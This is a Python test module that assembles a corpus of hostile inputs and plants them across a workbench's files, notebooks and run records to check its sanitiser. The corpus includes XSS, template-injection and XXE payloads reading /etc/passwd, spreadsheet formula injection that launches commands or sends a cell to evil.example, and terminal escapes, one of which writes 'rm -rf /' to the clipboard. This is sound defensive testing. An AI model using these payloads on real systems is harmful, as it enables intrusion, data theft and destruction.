"""One corpus of hostile text, and a finished run that has it in every place a stranger controls.

What runs, sets ``struck`` on its window and on those around it; what fetches, asks a canary server; what covers, leaves its
box; what steers a terminal, holds a control character; what a spreadsheet would run, begins like a formula.
"""

import base64
import csv
from collections.abc import Iterator
from contextlib import closing, contextmanager
from datetime import date, timedelta
from html import escape
from pathlib import Path

import orjson

from proxies.asof.clock import Cutoff
from sandbox.record.journal import Journal, read_journal, result_to_json
from sandbox.record.passive import passive_outputs, passive_text
from sandbox.record.session_notebook import render_notebook, write_notebook
from sandbox.types import CellError, CellResult
from tests.command_line import run_process
from tests.fakes.loopback import Quiet, serving
from tests.fakes.screens import CUTOFF, figure_png
from workbench.engine.new_run import new_run
from workbench.engine.record.fold import load_state
from workbench.engine.run_settings import RunSettings, with_preset
from workbench.packages.package import adopt_tree
from workbench.propositions import Belief, Tree
from workbench.reports.note_page import write_report
from workbench.store import Store
from workbench.store import events as ev
from workbench.synthesis import LinearRule, settle

RUN = "20180630-120000-bad0"
STRIKE = "self.struck=1;top.struck=1"
#: What a file may be called.
NAME = f"<img src=x onerror={STRIKE}>"
SERVICE = """
source: store
title: {text}
about: {text}
hosts: {{main: 'https://store.example'}}
endpoints:
- path: store/orders
  call: GET main/orders
  about: {text}
  params:
    shop: {{required: true, example: berlin, about: {text}}}
  rows: 'orders[]'
  fields: {{day: {text}, amount: {text}}}
  as_of: {{policy: filter_rows, residual: high, stamp: {{field: day, grain: day}}}}
"""
_ENTITIES = "".join(f"&#{ord(char)};" for char in "javascript:")


def active(canary: str) -> dict[str, str]:
    """Texts that run or fetch where a page takes them for HTML or Markdown."""
    script = f"<script>{STRIKE}</script>"
    image = f'<img src=x onerror="{STRIKE}">'
    document = base64.b64encode(f"<script>{STRIKE}</script>".encode()).decode()
    return {
        "script": script,
        "script of another place": f'<script src="{canary}/script.js"></script>',
        "script in odd case": f"<ScRiPt\t>{STRIKE}</sCrIpT >",
        "dialog": "<script>alert('struck')</script>",
        "event handler": image,
        "event handler without quotes": f"<img/src=x/onerror={STRIKE}>",
        "event handler of an open element": f'<details open ontoggle="{STRIKE}"><summary>x</summary></details>',
        "event handler of focus": f'<input autofocus onfocus="{STRIKE}">',
        "event handler of an animation": f'<style>@keyframes x{{}}</style><b style="animation:x 1s" onanimationstart="{STRIKE}">x</b>',
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{STRIKE}"><script>{STRIKE}</script></svg>',
        "svg of another place": f'<svg><image href="{canary}/svg.png"/><use href="{canary}/use.svg#x"/></svg>',
        "svg with HTML in it": f'<svg><foreignObject><iframe srcdoc="{escape(script)}"></iframe></foreignObject></svg>',
        "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={STRIKE}&gt;">',
        "iframe": f'<iframe srcdoc="{escape(script)}"></iframe>',
        "iframe of another place": f'<iframe src="{canary}/frame"></iframe>',
        "iframe of data": f'<iframe src="data:text/html;base64,{document}"></iframe>',
        "object": f'<object data="{canary}/object"></object><embed src="{canary}/embed">',
        "form": f'<form action="{canary}/form" id=f><input name=q></form><script>f.submit()</script>',
        "button": f'<button formaction="{canary}/form" form=f>press</button>',
        "meta refresh": f'<meta http-equiv="refresh" content="0;url={canary}/refresh">',
        "base": f'<base href="{canary}/">',
        "stylesheet": f'<link rel="stylesheet" href="{canary}/sheet.css">',
        "style with import": f'<style>@import "{canary}/import.css";</style>',
        "style with a picture": f'<div style="background:url({canary}/back.png)">x</div>',
        "picture": f'<img src="{canary}/pixel.png"><img srcset="{canary}/set.png 1x">',
        "preload": f'<link rel="preload" as="image" href="{canary}/preload.png">',
        "video": f'<video src="{canary}/video" poster="{canary}/poster.png" autoplay></video>',
        "markdown picture": f"![x]({canary}/markdown.png)",
        "mutation: noscript": f'<noscript><p title="</noscript><img src=x onerror={STRIKE}>"></noscript>',
        "mutation: template": f"<template><img src=x onerror={STRIKE}></template>",
        "mutation: title": f'<title><a title="</title><img src=x onerror={STRIKE}>">',
        "mutation: xmp": f'<xmp><p title="</xmp><img src=x onerror={STRIKE}>"></xmp>',
        "mutation: comment": f"<!--><img src=x onerror={STRIKE}>-->",
        "mutation: cdata": f"<svg><![CDATA[><img src=x onerror={STRIKE}>]]></svg>",
        "mutation: textarea": f'<textarea><p title="</textarea><img src=x onerror={STRIKE}>"></textarea>',
        "mutation: select": f'<select><template><style><!--</style><img title="--><img src=x onerror={STRIKE}>">',
        "closes its place": f"</pre></td></table></div></body></html>{image}",
        "closes an attribute": f'"><img src=x onerror="{STRIKE}">',
        "closes a script": f"</script>{script}",
        "entities": f"&lt;img src=x onerror={STRIKE}&gt;",
        "entities twice": f"&amp;lt;img src=x onerror={STRIKE}&amp;gt;",
        "a zero byte": f"<scr\0ipt>{STRIKE}</scr\0ipt><img src=x one\0rror={STRIKE}>",
        "wide letters": f"＜script＞{STRIKE}＜/script＞",
        "utf-7": f"+ADw-script+AD4-{STRIKE}+ADw-/script+AD4-",
        "half a pair": f"\ud800<img src=x onerror={STRIKE}>",
        "jinja": "{{ 7*7 }}{% for x in [1] %}{{ cycler.__init__.__globals__ }}{% endfor %}{# x #}",
        "mustache": "{{{ constructor.constructor('top.struck=1')() }}} <%= 7*7 %> ${top.struck=1} #{7*7}",
        "latex": "$\\href{javascript:top.struck=1}{x}$ \\input{/etc/passwd} \\write18{id} $$\\require{html}\\style{position:fixed}{x}$$",
        "XML": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:t>&e;</w:t>',
    }  # fmt: skip


def links(canary: str) -> dict[str, str]:
    """Texts that run when somebody presses what they show."""
    document = base64.b64encode(f"<script>{STRIKE}</script>".encode()).decode()
    return {
        "javascript": f'<a href="javascript:{STRIKE}">press</a>',
        "javascript in entities": f'<a href="{_ENTITIES}{STRIKE}">press</a>',
        "javascript with a line break": f'<a href="java\nscript:{STRIKE}">press</a>',
        "javascript with a control character": f'<a href="\x01javascript:{STRIKE}">press</a>',
        "vbscript": f'<a href="vbscript:{STRIKE}">press</a>',
        "data": f'<a href="data:text/html;base64,{document}">press</a>',
        "svg": f'<svg><a xlink:href="javascript:{STRIKE}"><text y=20>press</text></a></svg>',
        "markdown": f"[press](javascript:{STRIKE})",
        "markdown in brackets": f"[press](<javascript:{STRIKE}>)",
        "markdown in odd case": f"[press](JaVaScRiPt:{STRIKE})",
        "markdown in entities": f"[press]({_ENTITIES}{STRIKE})",
        "markdown in named entities": f"[press](javascript&colon;{STRIKE})",
        "markdown with a tab": f"[press](java&Tab;script:{STRIKE})",
        "markdown by reference": f"[press][r]\n\n[r]: javascript:{STRIKE}",
        "markdown of itself": f"<javascript:{STRIKE}>",
        "markdown of data": f"[press](data:text/html;base64,{document})",
    }


#: Texts that leave their box, hide a neighbour, or lie over one.
COVERING = {
    "fixed": '<div style="position:fixed;inset:0;background:#fff;z-index:99">covered</div>',
    "absolute": '<div style="position:absolute;top:-500px;left:-500px;width:9000px;height:9000px">covered</div>',
    "sticky": '<div style="position:sticky;top:-900px">covered</div>',
    "margins": '<div style="margin-top:-900px;margin-left:-900px">covered</div>',
    "width": '<div style="width:9000px;margin-left:-3000px">covered</div>',
    "transform": '<div style="transform:translate(-600px,-600px) scale(9)">covered</div>',
    "shadow": '<div style="box-shadow:0 0 0 9999px #fff">covered</div>',
    "outline": '<div style="outline:9999px solid #fff">covered</div>',
    "float": '<div style="float:left;margin-left:-2000px;width:9000px">covered</div>',
    "style of the page": "<style>body *{display:none!important}</style><b>covered</b>",
    "table": '<table style="position:fixed;top:0"><tr><td style="position:absolute;top:-99px">covered</td></tr></table>',
}

#: Texts that steer a terminal, or turn what is read around.
STEERING = {
    "colour": "\x1b[31mred\x1b[0m",
    "hidden": "\x1b[8mhidden\x1b[28m",
    "clear the screen": "\x1b[2J\x1b[Hverified: 9 proofs, 0 differences",
    "cursor up": "\x1b[9A\x1b[2Kall is well",
    "title": "\x1b]0;another title\x07",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "link": "\x1b]8;;https://evil.example\x1b\\https://example.org\x1b]8;;\x1b\\",
    "device": '\x1bP$q"p\x1b\\\x1b[c\x1b[6n',
    "one byte forms": "\x9b31mred\x9d0;title\x9c\x90q\x9c",
    "carriage return": "refused\rverified",
    "backspace": "no\x08\x08yes",
    "bell and nul": "\x07\x00\x0e\x0f\x7f",
    "another line": "fine\nverified: 9 proofs, 0 differences",
    "right to left": "\u202egpj.exe\u202c \u2066x\u2069 \u200fx",
    "no width": "pay\u200bpal \ufeffx\u2060\u00ad",
    "separators": "one\u2028two\u2029three\x85four",
    "tags": "fine\U000e0041\U000e0042",
}

#: Texts that a spreadsheet takes for formulas.
FORMULAS = {
    "equals": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "link": '=HYPERLINK("https://evil.example?"&A1,"x")',
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "quoted": "'=1+1",
    "after a line": "x\n=1+1",
    "wide": "＝1+1",
    "comma and quotes": '",=1+1,"',
}  # fmt: skip

#: What an honest author writes beside all that; it has to stay.
HONEST = (
    '<table class="dataframe"><tr><th>year</th><td>2018</td></tr></table><p><b>bold</b> '
    '<a href="https://example.org/source">source</a></p>'
)


def corpus(canary: str) -> dict[str, str]:
    """All of it by name."""
    families = {"active": active(canary), "link": links(canary), "covering": COVERING,
                "steering": STEERING, "formula": FORMULAS}  # fmt: skip
    return {f"{family}: {name}": text for family, texts in families.items() for name, text in texts.items()}


class _Canary(Quiet):
    def do_GET(self) -> None:
        self.server.asked.append(self.path)  # type: ignore[attr-defined]
        self.send_response(204)
        self.end_headers()

    do_POST = do_HEAD = do_GET


@contextmanager
def canary_server() -> Iterator[tuple[str, list[str]]]:
    """A server on loopback that is to be asked nothing: its address, and what it was asked."""
    asked: list[str] = []
    with serving(_Canary, asked=asked) as address:
        yield address, asked


def whole(text: str) -> str:
    """The text as a file of UTF-8 can hold it: halves of surrogate pairs are question marks, as everywhere in the product."""
    return text.encode("utf-8", "replace").decode()


def hostile_outputs(canary: str) -> list[dict[str, object]]:
    """Outputs of a cell as a kernel can send them, one per text and kind, and an honest table and figure."""
    outputs: list[dict[str, object]] = []
    for text in map(whole, corpus(canary).values()):
        for kind in ("text/html", "text/markdown", "text/latex", "text/plain"):
            outputs.append({"output_type": "display_data", "data": {kind: text}, "metadata": {}})
    together = whole("\n".join(active(canary).values()))
    for kind in ("image/svg+xml", "application/javascript", "image/png", "image/jpeg", "text/x-template"):
        outputs.append(
            {"output_type": "display_data", "data": {kind: together}, "metadata": {kind: {"width": together}}}
        )
    widget = {
        "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
        "application/json": {"a": together},
    }
    outputs.append({"output_type": "display_data", "data": widget, "metadata": {}})
    for stream in ("stdout", "stderr"):
        outputs.append(
            {"output_type": "stream", "name": stream, "text": together + whole("".join(STEERING.values()))}
        )
    outputs.append(
        {
            "output_type": "error",
            "ename": together,
            "evalue": together,
            "traceback": [together, "\x1b[31m" + together],
        }
    )
    picture = {"image/png": base64.b64encode(figure_png()).decode(), "text/plain": "Figure"}
    outputs.append({"output_type": "display_data", "data": {"text/html": HONEST}, "metadata": {}})
    outputs.append({"output_type": "display_data", "data": picture, "metadata": {}})
    return outputs  # fmt: skip


def write_proof(folder: Path, node: str, canary: str, *, passive: bool = True) -> Path:
    """Write a proof's journal and notebook as a session does, all texts hostile; not ``passive``: the sanitiser is off."""
    journal = Journal(folder / "sessions" / f"{node}.1.1.jsonl")
    metadata = {"run": RUN, "node": node, "trial": 1, "attempt": 1, "cutoff": CUTOFF}
    journal.append("open", sync=False, name=f"{node}.1.1", title=node, metadata=metadata)
    for number, text in enumerate(map(whole, corpus(canary).values())):
        source = f"{text}\n\n**bold** [source](https://example.org/source)"
        shown = passive_text(source) if passive else {}
        journal.append("markdown", sync=False, id=f"text-{number:03d}", source=source, shown=shown)
    outputs = hostile_outputs(canary)
    code = whole("\n".join(corpus(canary).values()))
    journal.append("code", sync=False, id="cell-001", source=code, fixes=None)
    error = CellError(ename="E", evalue="v", traceback=())
    result = CellResult(cell_id="cell-001", status="error", error=error, outputs=tuple(outputs))
    shown = passive_outputs(outputs) if passive else {}
    journal.append("result", sync=False, id="cell-001", result=result_to_json(result), shown=shown)
    journal.append("close", sync=False)
    journal.close()
    path = folder / "proofs" / f"{node}.ipynb"
    write_notebook(path, render_notebook(read_journal(journal.path), title=node))
    return path


def hostile_tree(canary: str) -> Tree:
    """A tree in which every text is of the corpus; node ``P1`` and its children have hostile statements and beliefs."""
    texts = [whole(text) for text in corpus(canary).values()]
    groups = [texts[start : start + 20] for start in range(0, len(texts), 20)]
    tree = Tree.root_only(f"{texts[0]} {texts[4]} =1+1 \x1b[31mroot")
    tree = tree.expand("P0", {f"P{n}": f"{group[0]} of group {n}" for n, group in enumerate(groups, 1)})
    for n, group in enumerate(groups, 1):
        tree = tree.expand(
            f"P{n}", {f"P{n}.{k}": f"{text} {k}" for k, text in enumerate(group, 1)}, causality=group[0]
        )
    for leaf, text in zip(tree.leaves(), texts, strict=True):
        tree = tree.with_belief(leaf, Belief(p=0.5, key_factor=text, report=f"{text}\n{HONEST}"))
    for node in (*(f"P{n}" for n in range(1, len(groups) + 1)), "P0"):
        words = Belief(p=0.5, key_factor=texts[0], report=texts[4])
        share = 0.9 / len(tree[node].children)
        tree = settle(
            tree.with_rule(node, LinearRule(0.01, dict.fromkeys(tree[node].children, share)), words)
        )
    return tree  # fmt: skip


def plant_own_data(home: Path, canary: str) -> str:
    """Give a data folder a table, documents, a service and questions whose names, units and texts are of the corpus; return their claim.

    Each is brought in by the command that a person types, so what stands here is what the door lets through.
    """
    text = " ".join(whole(" ".join([*active(canary).values()][:8])).split())
    folder = home.parent / "own"
    (folder / "papers").mkdir(parents=True)
    table = folder / f"rows {NAME}.csv"
    days = [date(2015, 1, 2) + timedelta(days=7 * week) for week in range(190)]
    with table.open("w", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(["day", NAME])
        rows.writerows([day, 100 + number % 7 + number / 10] for number, day in enumerate(days))
    (folder / "papers" / f"2017-05-03 {NAME}.md").write_text(
        f"# {text}\n\n{text}\n\n[press](javascript:{STRIKE})\n"
    )
    (folder / "service.yaml").write_text(SERVICE.format(text=orjson.dumps(text).decode()))
    with (folder / "asked.csv").open("w", newline="") as file:
        csv.writer(file).writerows(
            [["id", "title", "asked_on"], ["a", text, "2018-06-01"], ["b", NAME, "2018-06-01"]]
        )
    for words in (
        ("source", "add", "planted", str(table), "--date", "day", "--value", NAME, "--lag", "1d", "--unit", text, "--yes"),
        ("source", "add-documents", "papers", str(folder / "papers"), "--dated", "filename", "--yes"),
        ("source", "add", "store", str(folder / "service.yaml"), "--yes"),
        ("questions", "import", str(folder / "asked.csv")),
        ("analyze", "own:planted is above 100 on 2018-12-31", "--cutoff", "2018-06-30", "--max-leaves", "2"),
    ):  # fmt: skip
        done = run_process(home.parent, *words)
        if done.returncode:
            raise RuntimeError(f"{words[:3]}: {done.stderr[-500:]}")
    with closing(Store(home)) as store:
        for claim in active(canary).values():
            adopt_tree(store, Tree.root_only(whole(claim)), cutoff="2018-06-30", package="sha256:" + "0" * 64)
        failed = new_run(
            store,
            f"It rains by 2019-01-01 {NAME}",
            Cutoff.parse("2018-06-30"),
            with_preset("product", model=NAME),
        )
        store.append(failed, ev.RunStopped(why="failure", detail=text))
        return next(run for run in store.run_ids() if "own:planted" in load_state(store, run).statement)


def make_hostile_run(home: Path, canary: str) -> str:
    """Write a finished run whose every text is hostile into a data folder, with one proof, and return its id."""
    tree = hostile_tree(canary)
    name = whole(" ".join(list(active(canary).values())[:6]))
    with closing(Store(home)) as store:
        settings = RunSettings(model=name).to_json()
        instant = "2018-06-30T04:00:00+00:00"
        started = ev.RunStarted(
            statement=tree.root.statement, cutoff=CUTOFF, cutoff_instant=instant, settings=settings
        )
        store.append(RUN, started)
        store.append(RUN, ev.RunSealed(isolation="namespaces"))
        store.append(RUN, ev.TreePlanned(tree=store.put_body(orjson.dumps(tree.to_json()))))
        write_proof(store.folder(RUN), "P1.1", canary)
        for node in tree.leaves():
            belief = tree[node].belief
            assert belief is not None
            common = {"p": belief.p, "key_factor": belief.key_factor, "report": store.put_body(belief.report)}
            store.append(RUN, ev.LeafStarted(node=node, trial=1, attempt=1))
            store.append(
                RUN, ev.LeafFailed(node=node, trial=1, attempt=1, reason=belief.key_factor, final=False)
            )
            store.append(RUN, ev.LeafStarted(node=node, trial=1, attempt=2))
            evidence = ev.EvidenceRecord(kind="notebook")
            store.append(
                RUN,
                ev.LeafGrounded(
                    node=node, trial=1, attempt=2, steps=1, failed_cells=0, evidence=evidence, **common
                ),
            )
            store.append(RUN, ev.LeafPooled(node=node, trials=(belief.p,), **common))
        store.append(RUN, ev.RunFinished(p=tree.root.p or 0.0))
        for number, text in enumerate(map(whole, corpus(canary).values())):
            record = {
                "action": "open",
                "scenario": f"{text} {number}",
                "author": text,
                "at": "2026-01-01T00:00:00+00:00",
                "base_seq": None,
                "edit": None,
                "rationale": text,
                "probability": None,
            }
            store.append(RUN, ev.ScenarioRecorded(record=record))
        for text in map(whole, corpus(canary).values()):
            store.append(RUN, ev.CommentAdded(node="P1.1", text=text, author=text))
            store.append(RUN, ev.NoteAdded(text=text, tags=(text,), author=text))
        store.append(RUN, ev.OutcomeRecorded(p=0.0, day="2018-12-31", author=name))
        zero = "sha256:" + "0" * 64
        signed = {"head": "0" * 64, "tree": zero, "comments": zero, "attested": zero}
        store.append(RUN, ev.ReviewSigned(author=name, verdict="accept", checklist={name: True}, **signed))
        write_report(store, load_state(store, RUN))
    return RUN  # fmt: skip
